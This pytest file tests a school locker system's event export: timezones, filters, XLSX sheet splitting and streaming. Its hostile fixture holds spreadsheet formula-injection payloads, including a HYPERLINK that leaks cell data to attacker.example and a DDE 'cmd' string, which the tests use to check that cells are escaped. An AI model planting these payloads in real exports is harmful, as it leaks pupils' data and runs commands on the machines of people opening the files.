"""Exports: columns, local time with offset across BST and GMT, formats, filters, streaming."""

import csv
import datetime as dt
import io
import json
import tracemalloc

import pytest
from lockerctl.export import COLUMNS, date_range, export_events
from lockerctl.roster import parse_roster
from lockerctl.store import Store
from lockerctl.store.tables import events

HEADER = "time,locker,bay,event,person_id,name,role,by,reason,seq,time_source,jid,flags"
UTC = dt.UTC


def ts(*args) -> int:
    return int(dt.datetime(*args, tzinfo=UTC).timestamp())


def ev(seq, when, type="deposit", bay=1, person="P1", by=None, reason=None):
    return {
        "seq": seq,
        "ts": when,
        "type": type,
        "bay": bay,
        "person": person,
        "by": by,
        "reason": reason,
    }


@pytest.fixture
def st(tmp_path):
    s = Store.open(f"sqlite:///{tmp_path / 'lockers.db'}")
    s.replace_roster(
        "school",
        parse_roster(
            "person_id,name,role,year,walk_home,card_uid\n"
            'P1,"Smith, Ann",pupil,6,yes,04A1B2C3\n'
            "S1,Sue Head,staff,,no,11223344\n"
            "S1,Sue Head,slt,,no,55667788\n"
        ),
    )
    s.ingest(
        "school",
        [
            ("L1", ev(1, ts(2026, 7, 1, 12, 0))),  # BST: 13:00+01:00
            ("L1", ev(2, ts(2026, 12, 1, 12, 0), "retrieve")),  # GMT: 12:00+00:00
            ("L1", ev(3, None, "boot", None, None)),  # clock unknown
            ("L2", ev(1, ts(2026, 6, 30, 23, 30), "override", 2, "P1", "S1", "medical")),
            ("L2", ev(2, ts(2026, 7, 1, 23, 30), "denied", None, "PX", None, "unknown_card")),
        ],
    )
    yield s
    s.close()


def run(st, fmt="csv", **kw):
    out = io.BytesIO() if fmt == "xlsx" else io.StringIO()
    n = export_events(st, "school", fmt, out, **kw)
    return n, out.getvalue()


def rows_of(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_columns_and_local_time_across_bst_and_gmt(st):
    n, text = run(st)
    assert n == 5
    assert text.splitlines()[0] == HEADER
    rows = {(r["locker"], r["seq"]): r for r in rows_of(text)}
    assert rows[("L1", "1")]["time"] == "2026-07-01T13:00:00+01:00"
    assert rows[("L1", "2")]["time"] == "2026-12-01T12:00:00+00:00"
    # journaled with the clock unknown: the host's receipt time, marked as such (issue 11)
    unknown_clock = rows[("L1", "3")]
    assert dt.datetime.fromisoformat(unknown_clock["time"]).tzinfo is not None
    assert unknown_clock["time_source"] == "received"
    assert rows[("L1", "1")]["time_source"] == "locker"
    o = rows[("L2", "1")]
    assert (o["bay"], o["event"], o["person_id"], o["name"], o["role"], o["by"], o["reason"]) == (
        "2",
        "override",
        "P1",
        "Smith, Ann",
        "pupil",
        "S1",
        "medical",
    )
    unknown = rows[("L2", "2")]
    assert unknown["name"] == "" and unknown["bay"] == "" and unknown["person_id"] == "PX"


def test_rows_are_in_time_order(st):
    _, text = run(st)
    known = [r["time"] for r in rows_of(text) if r["time_source"] == "locker"]
    instants = [dt.datetime.fromisoformat(t) for t in known]
    assert instants == sorted(instants)


def test_site_timezone_comes_from_the_timetable(st):
    st.set_timetable("school", "", {"timezone": "America/New_York"}, "America/New_York")
    rows = {(r["locker"], r["seq"]): r for r in rows_of(run(st)[1])}
    assert rows[("L1", "1")]["time"] == "2026-07-01T08:00:00-04:00"


def test_local_date_filter_is_inclusive_and_follows_bst(st):
    start, end = date_range(dt.date(2026, 7, 1), dt.date(2026, 7, 1), "Europe/London")
    assert (start, end) == (ts(2026, 6, 30, 23), ts(2026, 7, 1, 23))
    _, text = run(st, start=start, end=end)
    assert [(r["locker"], r["seq"]) for r in rows_of(text)] == [("L2", "1"), ("L1", "1")]
    start, end = date_range(dt.date(2026, 12, 1), None, "Europe/London")
    assert start == ts(2026, 12, 1) and end is None


def test_locker_and_person_filters(st):
    _, text = run(st, locker="L2")
    assert {r["locker"] for r in rows_of(text)} == {"L2"}
    _, text = run(st, person="S1")  # as `by` of the override
    assert [(r["event"], r["by"]) for r in rows_of(text)] == [("override", "S1")]
    _, text = run(st, person="P1", locker="L1")
    assert [r["seq"] for r in rows_of(text)] == ["1", "2"]


def test_jsonl(st):
    n, text = run(st, "jsonl")
    recs = [json.loads(line) for line in text.splitlines()]
    assert n == len(recs) == 5
    first = recs[0]
    assert list(first)[:10] == COLUMNS and list(first)[10:14] == [
        "time_source",
        "jid",
        "flags",
        "ts",
    ]
    o = next(r for r in recs if r["event"] == "override")
    assert o["bay"] == 2 and o["seq"] == 1 and o["ts"] == ts(2026, 6, 30, 23, 30)
    assert o["time"] == "2026-07-01T00:30:00+01:00"
    boot = next(r for r in recs if r["event"] == "boot")
    assert boot["ts"] is None and boot["time_source"] == "received" and boot["time"]

    assert isinstance(boot["received_at"], int)


def test_xlsx_reads_back(st, tmp_path):
    from openpyxl import load_workbook

    n, data = run(st, "xlsx")
    path = tmp_path / "out.xlsx"
    path.write_bytes(data)
    ws = load_workbook(path, read_only=True).active
    rows = list(ws.iter_rows(values_only=True))
    assert list(rows[0]) == [*COLUMNS, "time_source", "jid", "flags"]
    assert len(rows) == n + 1 == 6
    o = next(r for r in rows if r[3] == "override")
    assert o[0] == "2026-07-01T00:30:00+01:00" and o[5] == "Smith, Ann" and o[2] == 2


@pytest.mark.parametrize("limit", [2, 3, 6, 10])
def test_xlsx_past_a_sheets_rows_continues_on_further_sheets(st, tmp_path, monkeypatch, limit):
    """SHEET_ROWS rows (header included) on a sheet, the rest on `events 2`, `events 3`...,
    each with the header: every row once, in order, none lost or doubled, no empty sheet."""
    from lockerctl import export
    from openpyxl import load_workbook

    extra = [("L3", ev(i, ts(2026, 9, 1, 9, i))) for i in range(1, 13)]
    st.ingest("school", extra)
    _, whole = run(st, "csv")
    expected = list(csv.reader(io.StringIO(whole)))[1:]
    assert len(expected) == 17

    monkeypatch.setattr(export, "SHEET_ROWS", limit)
    n, data = run(st, "xlsx")
    assert n == 17
    (tmp_path / "s.xlsx").write_bytes(data)
    wb = load_workbook(tmp_path / "s.xlsx", read_only=True)
    per_sheet = limit - 1
    sheets = -(-17 // per_sheet)
    assert wb.sheetnames == ["events"] + [f"events {i}" for i in range(2, sheets + 1)]
    got = []
    for name in wb.sheetnames:
        rows = list(wb[name].iter_rows(values_only=True))
        assert list(rows[0]) == HEADER.split(",")
        assert 1 <= len(rows) - 1 <= per_sheet
        got += [["" if v is None else str(v) for v in r] for r in rows[1:]]
    assert got == expected


def test_xlsx_one_sheet_when_the_rows_fit(st, tmp_path):
    from openpyxl import load_workbook

    _, data = run(st, "xlsx")
    (tmp_path / "one.xlsx").write_bytes(data)
    assert load_workbook(tmp_path / "one.xlsx", read_only=True).sheetnames == ["events"]


def test_xlsx_keeps_every_digit_of_a_number_no_double_holds(tmp_path):
    """A whole number past 2^53 (only a hand edit stores one) is written as its exact text; a
    smaller one stays a number."""
    import types

    from lockerctl.export import write_xlsx
    from openpyxl import load_workbook

    row = types.SimpleNamespace(
        ts=None, received_at=ts(2026, 9, 1, 9, 0), locker_id="L1", bay=-5, type="boot",
        person=None, name=None, role=None, by=None, reason=None, seq=2**60 + 1, jid="",
        unknown_type=False,
    )  # fmt: skip
    out = io.BytesIO()
    assert write_xlsx(iter([row]), out, "Europe/London", lambda: None) == 1
    (tmp_path / "n.xlsx").write_bytes(out.getvalue())
    ws = load_workbook(tmp_path / "n.xlsx").active
    cells = list(ws.iter_rows(min_row=2))[0]
    assert cells[2].value == -5 and cells[2].data_type == "n"
    assert cells[9].value == str(2**60 + 1) and cells[9].data_type == "s"


def test_bad_format_is_refused(st):
    with pytest.raises(ValueError):
        run(st, "pdf")


def test_export_streams_in_bounded_memory(st):
    n_rows = 20_000
    with st.engine.begin() as conn:
        conn.execute(
            events.insert(),
            [
                {
                    "site": "school",
                    "locker_id": "L9",
                    "seq": i,
                    "ts": 1_790_000_000 + i,
                    "type": "deposit",
                    "bay": 1 + i % 8,
                    "person": "P1",
                    "by": None,
                    "reason": "x" * 100,
                    "received_at": 1_790_000_000,
                    "sort_ts": 1_790_000_000 + i,
                }
                for i in range(1, n_rows + 1)
            ],
        )

    class Sink:
        written = 0

        def write(self, s):
            self.written += len(s)

    sink = Sink()
    progressed = []
    tracemalloc.start()
    try:
        n = export_events(st, "school", "csv", sink, locker="L9", progress=progressed.append)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert n == n_rows and sum(progressed) == n_rows
    assert sink.written > n_rows * 100
    # the rows held at once would take > 8 MB; a streaming export holds a batch at a time
    assert peak < 3_000_000, peak


FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&E3&F3,"Details")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(st):
    """Events whose text a spreadsheet would run: reasons, a person id, a type, a roster name."""
    st.replace_roster(
        "school",
        parse_roster(
            "person_id,name,role,year,walk_home,card_uid\n"
            "P1,\"=cmd|' /C calc'!A0\",pupil,6,yes,04A1B2C3\n"
        ),
    )
    st.ingest(
        "school",
        [("L3", ev(i + 1, ts(2026, 9, 1, 9, i), reason=f)) for i, f in enumerate(FORMULAS)]
        + [("L3", ev(10, ts(2026, 9, 1, 10), "=type", -5, "-P9", "+by", "ok"))],
    )
    return st


def test_csv_cells_cannot_run_formulas(hostile):
    _, text = run(hostile, locker="L3")
    # read as a spreadsheet reads CSV: any cell starting =, +, -, @, tab or CR would run
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + len(FORMULAS) + 1  # a CR inside a cell starts no row of its own
    for row in rows:
        for cell in row:
            assert cell == "-5" or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    data = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert [r["reason"] for r in data[:-1]] == ["'" + f for f in FORMULAS]
    assert data[0]["name"] == "'=cmd|' /C calc'!A0"
    last = data[-1]
    assert (last["event"], last["bay"], last["person_id"], last["by"], last["reason"]) == (
        "'=type",
        "-5",  # a number stays a number
        "'-P9",
        "'+by",
        "ok",
    )
    assert last["time"] == "2026-09-01T11:00:00+01:00" and last["seq"] == "10"


def test_xlsx_cells_are_strings_with_the_exact_text(hostile, tmp_path):
    from openpyxl import load_workbook

    _, data = run(hostile, "xlsx", locker="L3")
    (tmp_path / "t.xlsx").write_bytes(data)
    ws = load_workbook(tmp_path / "t.xlsx").active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
    # exact text, no apostrophe (XML reads a carriage return back as a line feed)
    assert [r[8] for r in rows[:-1]] == [f.replace("\r", "\n") for f in FORMULAS]
    assert rows[0][5] == "=cmd|' /C calc'!A0"
    assert rows[-1][2:5] == [-5, "=type", "-P9"] and rows[-1][9] == 10


def test_roster_export_names_cannot_run_formulas(hostile):
    from lockerctl.roster import write_roster

    out = io.StringIO()
    write_roster(hostile.roster("school"), out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[1][1] == "'=cmd|' /C calc'!A0"


# -- the fast path (IsoTimes, rows read in batches) writes what the row-by-row path wrote ------


@pytest.mark.parametrize(
    "zone",
    ["Europe/London", "America/St_Johns", "Australia/Lord_Howe", "Asia/Kathmandu", "UTC"],
)
def test_iso_times_are_format_ts_exactly(zone):
    import random

    from lockerctl.display import TS_MAX, IsoTimes, format_ts

    iso = IsoTimes(zone)
    rng = random.Random(19)
    times = [rng.randrange(0, TS_MAX + 1) for _ in range(20_000)]
    times += [0, 1, 3599, 3600, TS_MAX - 1, TS_MAX, TS_MAX + 1, -1, 2.5, True, None, "x"]
    # every second of two hours around each of 2026's clock changes in London
    for change in (ts(2026, 3, 29, 1), ts(2026, 10, 25, 1)):
        times += range(change - 3600, change + 3600)
    assert [iso(t) for t in times] == [format_ts(t, zone) for t in times]


@pytest.fixture
def varied(st):
    """A store whose rows take both paths: times across both of 2026's clock changes, events
    without a locker time, values only a hand edit leaves (a float or text time, text in a
    number column, a huge number, control characters, formula text, carriage returns)."""
    start = ts(2026, 3, 28, 0)
    st.ingest(
        "school",
        [
            ("L5", ev(i + 1, start + i * 1777, ("deposit", "retrieve", "boot")[i % 3], i % 9))
            for i in range(2_000)
        ]
        + [("L5", ev(3_000, None, "boot", None, None)), ("L5", ev(3_001, ts(2026, 10, 25, 1)))],
    )
    edits = [
        {"ts": 1790000000.75},
        {"ts": "yesterday"},
        {"ts": -5},
        {"ts": None, "received_at": 2**40},
        {"bay": "7"},
        {"seq": 2**60},
        {"reason": "=1+1"},
        {"reason": "a\rb"},
        {"reason": "tab\there\x01"},
        {"person": "-P1"},
        {"jid": ""},
        {"unknown_type": True},
    ]
    with st.engine.begin() as conn:
        for i, values in enumerate(edits):  # each on two rows: a value seen again
            for seq in (10 + i * 7, 1000 + i * 7):
                row = {k: v + seq if k == "seq" else v for k, v in values.items()}
                conn.execute(
                    events.update()
                    .where(events.c.locker_id == "L5", events.c.seq == seq)
                    .values(**row)
                )
    return st


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_fast_export_writes_what_the_row_by_row_path_wrote(varied, fmt):
    """Rows as plain objects (no `_fields`) take `_record` row by row, the path every row took
    before the fast one: both write the same bytes, whatever the rows hold."""
    import types
    import zipfile

    from lockerctl.export import write_csv, write_xlsx

    rows = list(varied.events("school", locker="L5"))
    assert len(rows) == 2_002
    slow_rows = [types.SimpleNamespace(**r._mapping) for r in rows]
    written = []
    for some in (rows, slow_rows):
        if fmt == "csv":
            out = io.StringIO()
            write_csv(iter(some), out, "Europe/London", lambda: None)
            written.append(out.getvalue())
        else:
            out = io.BytesIO()
            write_xlsx(iter(some), out, "Europe/London", lambda: None, "note\n")
            with zipfile.ZipFile(io.BytesIO(out.getvalue())) as z:
                written.append({name: z.read(name) for name in z.namelist()})
    assert written[0] == written[1]
    if fmt == "csv":
        text = written[0]
        assert "+01:00" in text and "+00:00" in text and "'=1+1" in text
    _, whole = run(varied, fmt, locker="L5")  # through export_events and the store's batches
    if fmt == "csv":
        assert whole == written[0]
